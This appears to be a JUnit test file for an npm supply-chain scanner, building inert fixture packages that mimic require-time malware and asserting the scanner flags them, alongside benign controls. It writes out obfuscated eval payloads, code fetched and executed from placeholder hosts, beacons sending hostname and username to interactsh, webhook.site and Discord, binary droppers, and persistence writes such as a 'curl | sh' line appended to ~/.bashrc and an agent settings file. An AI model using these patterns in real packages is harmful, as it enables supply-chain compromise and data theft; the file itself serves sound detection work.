package dev.gatehouse.policy.replicas;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.analyzer.ArtifactKind;
import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.Trigger;
import dev.gatehouse.analyzer.npm.NpmFixture;
import dev.gatehouse.policy.Ecosystem;
import java.io.IOException;
import java.nio.file.Path;
import java.util.Locale;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * npm packages whose payload runs when the main file is required, with no install script: the shapes of
 * the 2021–2026 write-ups (ua-parser-js's loaders, the flatmap-stream dropper, chalk/debug's injected
 * bundle code, beacons to interactsh and webhook collectors), each in variants that differ the way real
 * samples do. Every payload is inert: hosts end in {@code .invalid} or are collectors' public names, and
 * the decoded text is {@code console.log(1)} or {@code id}. Nothing is run.
 */
class NpmRequireTimeReplicasTest {
  @TempDir Path tmp;

  /** {@code console.log(1)} in base64. */
  private static final String B64 = "Y29uc29sZS5sb2coMSk=";

  private Replica judge(NpmFixture fixture) throws IOException {
    Path tgz = fixture.tarball(tmp, "fixture-1.0.0.tgz");
    return Replica.judge(tgz, ArtifactKind.NPM_TARBALL, Ecosystem.NPM, "fixture", "1.0.0");
  }

  private static Named<NpmFixture> variant(String name, String indexJs) {
    return Named.of(name, NpmFixture.main("index.js").file("index.js", indexJs));
  }

  static Stream<Named<NpmFixture>> decodedPayloads() {
    return Stream.of(
        variant("base64 into new Function", "const s = '" + B64 + "';\n"
            + "new Function(Buffer.from(s, 'base64').toString())();\n"),
        variant("atob into eval", "eval(atob('" + B64 + "'));\n"),
        variant("hex into vm.runInThisContext", "const vm = require('vm');\n"
            + "vm.runInThisContext(Buffer.from('636f6e736f6c652e6c6f67283129', 'hex').toString('utf8'));\n"),
        variant("decoder helper and an alias of Function", "function dec(x) { return Buffer.from(x, 'base64').toString(); }\n"
            + "const p = dec('" + B64 + "');\nconst run = Function;\nrun(p)();\n"),
        variant("eval named from pieces on global", "var k = '" + B64 + "';\n"
            + "global['ev' + 'al'](Buffer.from(k, 'base64').toString());\n"),
        variant("Function reached through constructor lookups", "const code = atob('" + B64 + "');\n"
            + "[]['constructor']['constructor'](code)();\n"),
        variant("text stored reversed", "const c = ')1(gol.elosnoc'.split('').reverse().join('');\neval(c);\n"),
        variant("character codes", "const x = String.fromCharCode(105, 100);\n"
            + "require('child_process').execSync(x);\n"),
        variant("percent escapes", "eval(decodeURIComponent('%63%6f%6e%73%6f%6c%65%2e%6c%6f%67%28%31%29'));\n"),
        variant("zlib-inflated blob", "const zlib = require('zlib');\n"
            + "const b = zlib.inflateSync(Buffer.from('eJwrzs9LVcjJT9dQMlRSKEktKlHIzEvLBwA3swYG', 'base64'));\n"
            + "new Function(b.toString())();\n"),
        variant("minified wrapper handed Buffer and require",
            "!function(e,t){var n=t(\"child_process\"),r=e.from(\"aWQ=\",\"base64\").toString();n.exec(r)}(Buffer,require);\n"),
        variant("Windows-only branch", "if (process.platform === 'win32') {\n"
            + "  require('child_process').exec(Buffer.from('cG93ZXJzaGVsbCAtYyBpZA==', 'base64').toString());\n}\n"
            + "module.exports = {};\n"),
        Named.of("payload in a required submodule", NpmFixture.main("index.js")
            .file("index.js", "module.exports = require('./lib/util');\n")
            .file("lib/util.js", "const s = '" + B64 + "';\neval(Buffer.from(s, 'base64').toString());\n"
                + "module.exports = {};\n")));
  }

  @ParameterizedTest(name = "decoded payload run at require: {0}")
  @MethodSource("decodedPayloads")
  void decodedPayloadRunAtRequireIsStopped(NpmFixture fixture) throws IOException {
    Replica replica = judge(fixture).isStopped(Trigger.IMPORT_TIME, Capability.ENCODED_PAYLOAD);
    assertThat(replica.findings()).anySatisfy(f -> assertThat(f.evidence().excerpt()).contains("decoded by"));
  }

  static Stream<Named<NpmFixture>> downloadedCode() {
    return Stream.of(
        variant("https.get response collected and evaluated", "const https = require('https');\n"
            + "https.get('https://cdn.example.invalid/p.js', (res) => {\n  let d = '';\n"
            + "  res.on('data', (c) => { d += c; });\n  res.on('end', () => { eval(d); });\n});\n"),
        variant("fetch text into new Function",
            "fetch('https://cdn.example.invalid/p.js').then(r => r.text()).then(t => new Function(t)());\n"),
        variant("awaited fetch into eval", "(async () => {\n"
            + "  const r = await fetch('https://cdn.example.invalid/p.js');\n  const code = await r.text();\n"
            + "  eval(code);\n})();\n"),
        variant("http.request into vm", "const http = require('http'); const vm = require('vm');\n"
            + "const req = http.request({ host: 'cdn.example.invalid', path: '/p' }, res => {\n"
            + "  let body = ''; res.on('data', chunk => body += chunk);\n"
            + "  res.on('end', () => vm.runInNewContext(body, { require }));\n});\nreq.end();\n"));
  }

  @ParameterizedTest(name = "downloaded code run at require: {0}")
  @MethodSource("downloadedCode")
  void downloadedCodeRunAtRequireIsStopped(NpmFixture fixture) throws IOException {
    judge(fixture).isStopped(Trigger.IMPORT_TIME, Capability.DYNAMIC_CODE, Capability.NETWORK);
  }

  static Stream<Named<NpmFixture>> beacons() {
    return Stream.of(
        variant("host and user posted to interactsh", "const os = require('os'); const https = require('https');\n"
            + "const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname });\n"
            + "const req = https.request({ hostname: 'c0ffee.oast.fun', method: 'POST', path: '/' });\n"
            + "req.write(data); req.end();\n"),
        variant("DNS lookup under an out-of-band domain", "const dns = require('dns'); const os = require('os');\n"
            + "dns.lookup(Buffer.from(os.hostname()).toString('hex') + '.c0ffee.oast.fun', () => {});\n"),
        variant("fetch to a webhook collector", "const os = require('os');\n"
            + "fetch('https://webhook.site/0000-1111', { method: 'POST', body: os.hostname() });\n"),
        Named.of("Discord webhook in a required submodule", NpmFixture.main("index.js")
            .file("index.js", "require('./telemetry');\nmodule.exports = {};\n")
            .file("telemetry.js", "const https = require('https');\n"
                + "const r = https.request('https://discord.com/api/webhooks/1/x', { method: 'POST' });\n"
                + "r.end(JSON.stringify({ content: process.cwd() }));\n")));
  }

  @ParameterizedTest(name = "beacon at require: {0}")
  @MethodSource("beacons")
  void beaconAtRequireIsStopped(NpmFixture fixture) throws IOException {
    judge(fixture).isStopped(Trigger.IMPORT_TIME, Capability.NETWORK);
  }

  static Stream<Named<NpmFixture>> droppers() {
    return Stream.of(
        variant("decoded binary written to tmp, made executable and run",
            "const fs = require('fs'), os = require('os'), path = require('path');\n"
            + "const { execFile } = require('child_process');\nconst f = path.join(os.tmpdir(), 'upd');\n"
            + "fs.writeFileSync(f, Buffer.from('f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA', 'base64'));\n"
            + "fs.chmodSync(f, 0o755);\nexecFile(f);\n"),
        variant("download piped to a file, chmod with a callback, spawn",
            "const h = require('https'); const fs = require('fs'); const cp = require('child_process');\n"
            + "h.get('https://objects.example.invalid/helper', res => res.pipe(fs.createWriteStream('/tmp/.helper'))\n"
            + "  .on('close', () => fs.chmod('/tmp/.helper', 0o755, () => cp.spawn('/tmp/.helper', [], { detached: true }))));\n"),
        variant("Windows-only: decoded executable written under APPDATA and started",
            "const fs = require('fs'); const path = require('path');\nif (process.platform === 'win32') {\n"
            + "  const p = path.join(process.env.APPDATA, 'svc.exe');\n"
            + "  fs.writeFileSync(p, Buffer.from('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA', 'base64'));\n"
            + "  require('child_process').spawn(p, [], { detached: true });\n}\n"));
  }

  @ParameterizedTest(name = "dropper at require: {0}")
  @MethodSource("droppers")
  void dropperAtRequireIsStopped(NpmFixture fixture) throws IOException {
    judge(fixture).isStopped(Trigger.IMPORT_TIME, Capability.FILESYSTEM_WRITE);
  }

  static Stream<Named<NpmFixture>> persistence() {
    return Stream.of(
        variant("line appended to ~/.bashrc", "const fs = require('fs'); const os = require('os');\n"
            + "fs.appendFileSync(require('path').join(os.homedir(), '.bashrc'), '\\ncurl -s https://x.invalid/u | sh\\n');\n"),
        variant("CI workflow written into the project (Shai-Hulud)", "const fs = require('fs');\n"
            + "const dir = require('path').join(process.cwd(), '.github/workflows');\n"
            + "fs.mkdirSync(dir, { recursive: true });\n"
            + "fs.writeFileSync(dir + '/discussion.yaml', 'on: discussion\\njobs: {}\\n');\n"),
        variant("Windows-only: editor task that runs on folder open", "const fs = require('fs');\n"
            + "if (process.platform === 'win32') {\n"
            + "  fs.writeFileSync('.vscode/tasks.json', JSON.stringify({ tasks: [{ command: 'id', runOptions: { runOn: 'folderOpen' } }] }));\n"
            + "}\n"),
        variant("agent settings under the home folder", "const fs = require('fs'); const os = require('os');\n"
            + "fs.writeFileSync(os.homedir() + '/.claude/settings.json', '{\"hooks\": {}}');\n"));
  }

  @ParameterizedTest(name = "persistence write at require: {0}")
  @MethodSource("persistence")
  void persistenceWriteAtRequireIsStopped(NpmFixture fixture) throws IOException {
    judge(fixture).isStopped(Trigger.IMPORT_TIME, Capability.FILESYSTEM_WRITE);
  }

  static Stream<Named<NpmFixture>> hiddenNames() {
    return Stream.of(
        variant("module and method joined from pieces", "const m = 'child_' + 'process';\n"
            + "const a = ['ex', 'ec'].join('');\nrequire(m)[a]('id');\n"),
        variant("module name in base64", "const cp = require(atob('Y2hpbGRfcHJvY2Vzcw=='));\ncp.execSync('id');\n"),
        variant("eval named by a joined array", "global[['ev', 'al'].join('')](\"require('child_process').exec('id')\");\n"),
        variant("module name joined with a separator", "const m = ['child', 'process'].join('_');\n"
            + "const cp = require(m);\ncp.spawn('sh', ['-c', 'id']);\n"));
  }

  @ParameterizedTest(name = "hidden module or sink name at require: {0}")
  @MethodSource("hiddenNames")
  void hiddenNameAtRequireIsStopped(NpmFixture fixture) throws IOException {
    judge(fixture).isStopped(Trigger.IMPORT_TIME, Capability.OBFUSCATION, Capability.PROCESS_SPAWN);
  }

  /**
   * The layout javascript-obfuscator emits: a string table function, a rotation loop that turns it until a
   * checksum matches, and a lookup function; {@code n} renames every identifier, as its name generators do.
   */
  private static String obfuscated(UnaryOperator<String> n, String payload) {
    String template = "const A=B;(function(C,D){const E=B,F=C();while(!![]){try{const G=parseInt(E(0x1e0))/0x1"
        + "+-parseInt(E(0x1e1))/0x2;if(G===D)break;else F['push'](F['shift']());}catch(H){F['push'](F['shift']());}}"
        + "}(I,0x9c2d3));function B(J,K){const L=I();return B=function(M,N){M=M-0x1e0;let O=L[M];return O;},B(J,K);}"
        + "function I(){const P=['child_process','exec','id','https://c0ffee.oast.fun/x','1234','5678'];"
        + "I=function(){return P;};return I();}";
    Matcher names = Pattern.compile("\\b[A-P]\\b").matcher(template + payload);
    StringBuilder out = new StringBuilder();
    while (names.find()) {
      names.appendReplacement(out, Matcher.quoteReplacement(n.apply(names.group())));
    }
    return names.appendTail(out).toString();
  }

  static Stream<Named<NpmFixture>> obfuscatedPayloads() {
    UnaryOperator<String> hex = c -> "_0x" + Integer.toHexString(0x1a2b3c + c.charAt(0));
    UnaryOperator<String> mangled = c -> c.toLowerCase(Locale.ROOT) + "$";
    return Stream.of(
        variant("hexadecimal names, hidden require and call",
            obfuscated(hex, "require(A(0x1e0))[A(0x1e1)](A(0x1e2));")),
        variant("mangled names, hidden require and call",
            obfuscated(mangled, "require(A(0x1e0))[A(0x1e1)](A(0x1e2));")),
        variant("hexadecimal names, beacon with fetch", obfuscated(hex, "fetch(A(0x1e3),{method:'POST'});")),
        Named.of("mangled names in a required submodule", NpmFixture.main("index.js")
            .file("index.js", "require('./lib/polyfill.js');\nmodule.exports = {};\n")
            .file("lib/polyfill.js", obfuscated(mangled, "require(A(0x1e0))[A(0x1e1)](A(0x1e2));"))));
  }

  @ParameterizedTest(name = "obfuscated payload at require: {0}")
  @MethodSource("obfuscatedPayloads")
  void obfuscatedPayloadAtRequireIsStopped(NpmFixture fixture) throws IOException {
    judge(fixture).isStopped(Trigger.IMPORT_TIME, Capability.OBFUSCATION);
  }

  static Stream<Named<NpmFixture>> benignLoads() {
    return Stream.of(
        variant("optional native binding, NODE_ENV, own data file, global probe, embedded font",
            "const path = require('path');\n"
            + "let addon; try { addon = require('./build/Release/addon.node'); } catch (e) { addon = null; }\n"
            + "if (process.env.NODE_ENV !== 'production') { console.warn('development build'); }\n"
            + "const data = require('fs').readFileSync(path.join(__dirname, 'data.json'), 'utf8');\n"
            + "const g = new Function('return this')();\n"
            + "const font = Buffer.from('AAEAAAALAIAAAwAwT1MvMg8SBKkAAAC8AAAAYGNtYXDSVnx6AAABHAAAAFRnYXNw', 'base64');\n"
            + "module.exports = { addon, data, g, font };\n"),
        variant("libc probe and the package's own helper binary started at load, as esbuild does",
            "const { execSync, spawn } = require('child_process'); const path = require('path');\n"
            + "const fs = require('fs');\nlet libc; try { libc = execSync('ldd --version', { encoding: 'utf8' }); } catch (e) {}\n"
            + "const bin = path.join(__dirname, 'bin', 'tool');\ntry { fs.chmodSync(bin, 0o755); } catch (e) {}\n"
            + "const child = spawn(bin, ['--service'], { stdio: 'pipe' });\nmodule.exports = { libc, child };\n"),
        variant("URL parts decoded and a client that fetches only when called",
            "const q = decodeURIComponent(process.argv[2] || '');\n"
            + "module.exports = async function get(url) { const r = await fetch(url); return r.json(); };\n"),
        Named.of("fetch polyfill installed on globalThis", NpmFixture.main("index.js")
            .file("index.js", "const impl = require('./fetch-impl');\n"
                + "if (typeof globalThis.fetch !== 'function') { globalThis.fetch = impl; }\nmodule.exports = impl;\n")
            .file("fetch-impl.js", "module.exports = function fetch(url, init) {\n"
                + "  return new Promise((resolve) => { const x = new XMLHttpRequest(); x.open('GET', url);"
                + " x.onload = () => resolve(x); x.send(); });\n};\n")),
        variant("minified bundle with short names and a template compiler",
            "!function(e,t){\"object\"==typeof exports?module.exports=t():e.lib=t()}(this,function(){"
            + "var n={};function r(e){return n[e]||(n[e]=new Function(\"d\",\"return d.\"+e))}"
            + "return{get:function(e,t){return r(t)(e)}}});\n"));
  }

  @ParameterizedTest(name = "benign require-time code: {0}")
  @MethodSource("benignLoads")
  void benignRequireTimeCodeIsAllowed(NpmFixture fixture) throws IOException {
    judge(fixture).isAllowed();
  }
}
